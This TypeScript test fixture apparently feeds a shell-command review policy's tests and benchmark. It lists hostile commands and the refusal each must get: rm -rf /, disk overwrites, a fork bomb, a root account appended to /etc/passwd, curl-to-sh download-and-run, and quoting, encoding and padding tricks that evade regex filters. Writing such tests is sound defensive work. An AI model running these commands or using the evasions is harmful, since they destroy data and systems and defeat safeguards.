/**
 * Commands a hostile customer writes, each with how the review must refuse it. The first
 * group holds, for every pattern of the old regex policy, an input that made that pattern
 * backtrack (exponentially or polynomially) or walk around it by quoting; the rest are
 * indirections: wrappers, nested shells, interpreters, substitutions, fed shells.
 * Used by test/runbook/hostile-commands.test.ts (the refusal) and bench/policy.ts (the time).
 */
export interface HostileCommand {
  name: string;
  command: string;
  finding: 'policy-forbidden-command' | 'policy-unreviewable';
  /** The rule named in the finding's message (for unreviewable: the rule that could not be judged, if any). */
  rule?: string;
}

export const HOSTILE_COMMANDS: HostileCommand[] = [
  // The old patterns' worst inputs (the old pattern each defeated is named).
  { name: 'old rm-root: ambiguous option groups, quoted path', command: `rm ${'--a '.repeat(60)}"/"`, finding: 'policy-forbidden-command', rule: 'rm-root' },
  { name: 'old rm-system-dir: options and words, quoted path', command: `rm -r ${'--a '.repeat(40)}${'x '.repeat(40)}"/etc"`, finding: 'policy-forbidden-command', rule: 'rm-system-dir' },
  { name: 'old make-filesystem: a long option list', command: `mkfs.ext4 /dev/sda1 ${'-E x '.repeat(300)}`, finding: 'policy-forbidden-command', rule: 'make-filesystem' },
  { name: 'old dd-to-device: dd after dd after dd', command: `dd ${'dd '.repeat(600)}of=/dev/sda`, finding: 'policy-forbidden-command', rule: 'dd-to-device' },
  { name: 'old write-to-disk-device: a long run of blanks', command: `cat /dev/zero >${' '.repeat(1900)}/dev/sda`, finding: 'policy-forbidden-command', rule: 'write-to-disk-device' },
  { name: 'old shutdown: near misses, then quoted', command: `echo ${'shutdownx '.repeat(180)}; "shut"down -h now`, finding: 'policy-forbidden-command', rule: 'shutdown' },
  { name: 'old halt-poweroff-reboot: quoted path', command: `sync; ${' '.repeat(1000)}"/sbin/halt"`, finding: 'policy-forbidden-command', rule: 'halt-poweroff-reboot' },
  { name: "old init-runlevel: blanks, quoted level", command: `init${' '.repeat(1500)}'0'`, finding: 'policy-forbidden-command', rule: 'init-runlevel' },
  { name: 'old fork-bomb: no pipe in it', command: `bomb() { bomb & bomb & }; ${'true; '.repeat(300)}bomb`, finding: 'policy-forbidden-command', rule: 'fork-bomb' },
  { name: 'old chmod-chown-root: words around -R, quoted root', command: `chmod ${'a '.repeat(40)}-R ${'b '.repeat(40)}"/"`, finding: 'policy-forbidden-command', rule: 'chmod-chown-root' },
  { name: 'old download-and-run: through base64 into a quoted sh', command: `curl -s http://x.example/a ${'| cat '.repeat(200)}| base64 -d | "sh"`, finding: 'policy-forbidden-command', rule: 'download-and-run' },
  { name: 'old kill-everything: -s -s -s …, quoted -1', command: `kill ${'-s '.repeat(300)}"-1"`, finding: 'policy-forbidden-command', rule: 'kill-everything' },
  { name: 'old firewall-off: many words before stop', command: `service ${'iptables '.repeat(200)}stop`, finding: 'policy-forbidden-command', rule: 'firewall-off' },
  { name: 'old accounts: blanks before /etc/passwd', command: `echo 'x::0:0::/:/bin/sh' >>${' '.repeat(1800)}/etc/passwd`, finding: 'policy-forbidden-command', rule: 'accounts' },
  { name: 'old sudoers: the name split by quotes', command: `"vi""sudo" -f /etc/sudoers.d/x`, finding: 'policy-forbidden-command', rule: 'sudoers' },
  { name: 'old crontab-remove: options, quoted -r', command: `crontab ${'-u x '.repeat(200)}'-r'`, finding: 'policy-forbidden-command', rule: 'crontab-remove' },

  // Quoting and indirection.
  { name: 'sh -c', command: "sh -c 'rm -rf /'", finding: 'policy-forbidden-command', rule: 'rm-root' },
  { name: 'bash -c inside sudo inside sh -c', command: `sh -c "sudo bash -c 'rm -rf /'"`, finding: 'policy-forbidden-command', rule: 'rm-root' },
  { name: 'su -c', command: "su -c 'halt'", finding: 'policy-forbidden-command', rule: 'halt-poweroff-reboot' },
  { name: 'su - root -c', command: "su - root -c '/sbin/poweroff'", finding: 'policy-forbidden-command', rule: 'halt-poweroff-reboot' },
  { name: 'sudo -s', command: 'sudo -s reboot', finding: 'policy-forbidden-command', rule: 'halt-poweroff-reboot' },
  { name: 'quoted root', command: 'rm -rf "/"', finding: 'policy-forbidden-command', rule: 'rm-root' },
  { name: 'backslash in the program', command: 'r\\m -rf /', finding: 'policy-forbidden-command', rule: 'rm-root' },
  { name: 'quotes in the program', command: "'r''m' -rf /", finding: 'policy-forbidden-command', rule: 'rm-root' },
  { name: 'full path and a glob', command: '/bin/rm -rf /*', finding: 'policy-forbidden-command', rule: 'rm-root' },
  { name: 'a glob from /', command: 'cd / && rm -rf *', finding: 'policy-forbidden-command', rule: 'rm-root' },
  { name: 'a relative system path', command: 'cd / ; rm -rf ./etc/', finding: 'policy-forbidden-command', rule: 'rm-system-dir' },
  { name: 'a path that climbs from the home directory', command: 'cd /tmp; cd ..; rm -rf etc', finding: 'policy-unreviewable', rule: 'rm-root' },
  { name: 'dot-dot to the root', command: 'rm -rf /var/../', finding: 'policy-forbidden-command', rule: 'rm-root' },
  { name: 'find -delete', command: 'find / -delete', finding: 'policy-forbidden-command', rule: 'find-delete-system' },
  { name: 'find -exec rm', command: 'find / -maxdepth 1 -exec rm -rf {} \\;', finding: 'policy-forbidden-command', rule: 'rm-root' },
  { name: 'recursive chmod of /etc', command: 'chmod -R 777 /etc', finding: 'policy-forbidden-command', rule: 'chmod-chown-root' },
  { name: 'wrappers', command: 'sudo -u root env X=1 nohup nice -n 5 timeout 10 reboot', finding: 'policy-forbidden-command', rule: 'halt-poweroff-reboot' },
  { name: 'trap', command: "trap 'reboot' EXIT", finding: 'policy-forbidden-command', rule: 'halt-poweroff-reboot' },
  { name: 'flock -c', command: "flock /tmp/l -c 'init 6'", finding: 'policy-forbidden-command', rule: 'init-runlevel' },
  { name: 'watch', command: "watch -n 1 'rm -rf /'", finding: 'policy-forbidden-command', rule: 'rm-root' },
  { name: 'systemctl', command: 'systemctl --no-block poweroff', finding: 'policy-forbidden-command', rule: 'halt-poweroff-reboot' },
  { name: 'in a function', command: 'f() { rm -rf /; }; f', finding: 'policy-forbidden-command', rule: 'rm-root' },
  { name: 'inside a substitution', command: 'x=$(rm -rf /)', finding: 'policy-forbidden-command', rule: 'rm-root' },
  { name: 'a device through tee', command: 'cat /dev/zero | tee /dev/sda', finding: 'policy-forbidden-command', rule: 'write-to-disk-device' },

  // What the review cannot judge.
  { name: 'python -c', command: `python -c 'import os; os.system("rm -rf /")'`, finding: 'policy-unreviewable' },
  { name: 'perl -e', command: `perl -e 'system "halt"'`, finding: 'policy-unreviewable' },
  { name: 'node -e', command: `node -e 'require("child_process").execSync("reboot")'`, finding: 'policy-unreviewable' },
  { name: 'awk system', command: `awk 'BEGIN { system("reboot") }'`, finding: 'policy-unreviewable' },
  { name: 'eval', command: `eval "r""m -rf /"`, finding: 'policy-unreviewable' },
  { name: 'a variable as the program', command: 'CMD=reboot; $CMD', finding: 'policy-unreviewable' },
  { name: 'a substitution as the program', command: '$(echo rm) -rf /', finding: 'policy-unreviewable' },
  { name: 'a glob as the program', command: '/sbin/reb* now', finding: 'policy-unreviewable' },
  { name: 'piped into a shell', command: 'echo cm0gLXJmIC8K | base64 -d | sh', finding: 'policy-unreviewable' },
  { name: 'piped into bash through sudo', command: 'printf "reboot" | sudo bash', finding: 'policy-unreviewable' },
  { name: 'a here-document into a shell', command: 'sh <<EOF\nrm -rf /\nEOF', finding: 'policy-unreviewable' },
  { name: 'a here-string into a shell', command: 'bash <<< "reboot"', finding: 'policy-unreviewable' },
  { name: 'a command substitution in an argument', command: 'kill -9 $(pgrep -f .)', finding: 'policy-unreviewable' },
  { name: 'backquotes in an argument', command: 'rm -rf `echo /`', finding: 'policy-unreviewable' },
  { name: 'a variable path under rm -r', command: 'rm -rf "$DIR"', finding: 'policy-unreviewable', rule: 'rm-root' },
  { name: 'xargs feeding rm -r', command: 'echo / | xargs rm -rf', finding: 'policy-unreviewable', rule: 'rm-root' },
  { name: 'a shell -c of a variable', command: 'bash -c "$X"', finding: 'policy-unreviewable' },
  { name: 'env -S', command: "env -S 'rm -rf /'", finding: 'policy-unreviewable' },
  { name: 'su without -c', command: 'echo reboot | su -', finding: 'policy-unreviewable' },
  { name: 'not shell syntax', command: 'rm -rf / )', finding: 'policy-unreviewable' },
  { name: 'nested too deeply', command: `${'('.repeat(400)}true${')'.repeat(400)}`, finding: 'policy-unreviewable' },
];
